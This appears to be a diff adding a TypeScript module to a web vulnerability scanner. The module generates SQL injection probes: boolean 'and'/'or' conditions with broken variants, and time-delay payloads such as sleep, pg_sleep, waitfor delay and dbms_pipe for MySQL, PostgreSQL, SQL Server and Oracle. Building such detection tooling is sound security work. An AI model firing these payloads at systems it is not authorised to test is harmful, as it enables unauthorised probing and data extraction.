@@ -1,0 +1,109 @@
+import type { Scan } from '../../rule.ts';
+import type { Tried } from '../../points/tried.ts';
+import { byDepth } from '../execution/likely.ts';
+import type { PairForm } from './pairs.ts';
+
+/** Conditions and pauses as databases read them, for each place in a query where a value may stand. None changes anything. */
+
+const sent = (value: string) => ({ value });
+type Write = (condition: string) => string;
+
+/** A form whose condition compares two numbers; as nonsense, the comparison has no right side. */
+const numbers = (where: string, kind: PairForm['kind'], write: Write): PairForm => ({
+  where,
+  kind,
+  write: (truth, a, b) => sent(write(`${a}=${truth ? a : b}`)),
+  broken: (a) => sent(write(`${a}==)=${a}(`)),
+});
+/** The same with texts, whose last quotation mark the query itself brings. */
+const texts = (where: string, kind: PairForm['kind'], quote: string, write: Write): PairForm => ({
+  where,
+  kind,
+  write: (truth, a, b) => sent(write(`${quote}${a}${quote}=${quote}${truth ? a : b}`)),
+  broken: (a) => sent(write(`${quote}${a}${quote}=)=(${quote}${a}`)),
+});
+
+const isNumber = (value: string) => /^-?\d{1,12}$/.test(value);
+const sortName = /sort|order|col(umn)?|^by$|dir(ection)?$/i;
+const whichRows = (condition: string, yes: string, no: string) => `(case when ${condition} then ${yes} else ${no} end)`;
+
+/** Forms in which a condition that holds leaves the answer as it is. */
+export function andForms(tried: Tried, scan: Scan): PairForm[] {
+  const { value, name } = tried.point;
+  const forms: PairForm[] = [];
+  if (isNumber(value)) {
+    // As a difference it fits between any brackets; a page that only calculates knows no `case`.
+    forms.push(numbers('a number', 'and', (condition) => `${value}-${whichRows(condition, '0', '1')}`));
+    if (scan.depth !== 'few') forms.push(numbers('a number', 'and', (condition) => `${value} and ${condition}`));
+  }
+  if (/^\w+$/.test(value) && !isNumber(value) && (sortName.test(name) || scan.depth === 'many'))
+    forms.push(numbers('the name of a column', 'and', (condition) => whichRows(condition, value, 'null')));
+  const inText = [
+    numbers('a text', 'and', (condition) => `${value}'||${whichRows(condition, "''", "'q'")}||'`),
+    texts('a text', 'and', "'", (condition) => `${value}' and ${condition}`),
+  ];
+  const more = [
+    texts('a pattern', 'and', "'", (condition) => `${value}%' and ${condition}' and '%'='`),
+    texts('a text in brackets', 'and', "'", (condition) => `${value}') and (${condition}`),
+    numbers('a text at the end', 'and', (condition) => `${value}' and ${condition} -- `),
+    numbers('a text', 'and', (condition) => `${value}'+${whichRows(condition, "''", "'q'")}+'`),
+    texts('a text in quotation marks', 'and', '"', (condition) => `${value}" and ${condition}`),
+  ];
+  const rare = [
+    numbers('a text in brackets at the end', 'and', (condition) => `${value}') and ${condition} -- `),
+    numbers('a text in two brackets at the end', 'and', (condition) => `${value}')) and ${condition} -- `),
+    numbers('a text at the end', 'and', (condition) => `${value}'/**/and/**/${condition}#`),
+    texts('a pattern in brackets', 'and', "'", (condition) => `${value}%') and (${condition}`),
+    numbers('a number in brackets', 'and', (condition) => `${value}) and (${condition}`),
+  ];
+  return [...forms, ...inText, ...byDepth(scan, [], more, [...more, ...rare])];
+}
+
+/** Forms in which a condition that holds brings everything: for values that find nothing. Only where nothing is written. */
+export function orForms(tried: Tried, scan: Scan): PairForm[] {
+  const { value } = tried.point;
+  const forms = [
+    texts('a text', 'or', "'", (condition) => `${value}' or ${condition}`),
+    numbers('a text at the end', 'or', (condition) => `${value}' or ${condition} -- `),
+    texts('a pattern', 'or', "'", (condition) => `${value}' or ${condition}' or 'x' like 'y`),
+  ];
+  const more = [
+    texts('a text in brackets', 'or', "'", (condition) => `${value}') or (${condition}`),
+    numbers('a text at the end', 'or', (condition) => `${value}' or ${condition}#`),
+    texts('a text in quotation marks', 'or', '"', (condition) => `${value}" or ${condition}`),
+    ...(isNumber(value) ? [numbers('a number', 'or', (condition) => `${value} or ${condition}`)] : []),
+  ];
+  return byDepth(scan, [], forms, [...forms, ...more]);
+}
+
+export type PauseForm = { database: string; write: (seconds: number) => string };
+
+/** Pauses: as parts of a sum or a joined text they fit into any brackets, and into what is stored as well. */
+export function pauseForms(tried: Tried, scan: Scan): PauseForm[] {
+  const { value } = tried.point;
+  const mysql = (s: number) => `(select 1 from (select sleep(${s}))z)`;
+  const postgres = (s: number) => `(select count(*) from pg_sleep(${s}))`;
+  const wait = (s: number) => `waitfor delay '0:0:${s}'`;
+  const text: PauseForm[] = [
+    { database: 'MySQL', write: (s) => `${value}'+${mysql(s)}+'` },
+    { database: 'PostgreSQL', write: (s) => `${value}'||${postgres(s)}||'` },
+    { database: 'SQL Server', write: (s) => `${value}';${wait(s)}-- ` },
+  ];
+  const number: PauseForm[] = isNumber(value)
+    ? [
+        { database: 'MySQL', write: (s) => `${value}-${mysql(s)}` },
+        { database: 'PostgreSQL', write: (s) => `${value}-${postgres(s)}` },
+        { database: 'SQL Server', write: (s) => `${value};${wait(s)}-- ` },
+      ]
+    : [];
+  const rare: PauseForm[] = [
+    { database: 'Oracle', write: (s) => `${value}'||dbms_pipe.receive_message('z',${s})||'` },
+    { database: 'MySQL', write: (s) => `${value}"+${mysql(s)}+"` },
+    { database: 'PostgreSQL', write: (s) => `${value}');select pg_sleep(${s})-- ` },
+    { database: 'SQL Server', write: (s) => `${value}');${wait(s)}-- ` },
+    // in place of a column
+    { database: 'MySQL', write: (s) => mysql(s) },
+    { database: 'PostgreSQL', write: (s) => postgres(s) },
+  ];
+  return byDepth(scan, [], [...text, ...number], [...text, ...number, ...rare]);
+}
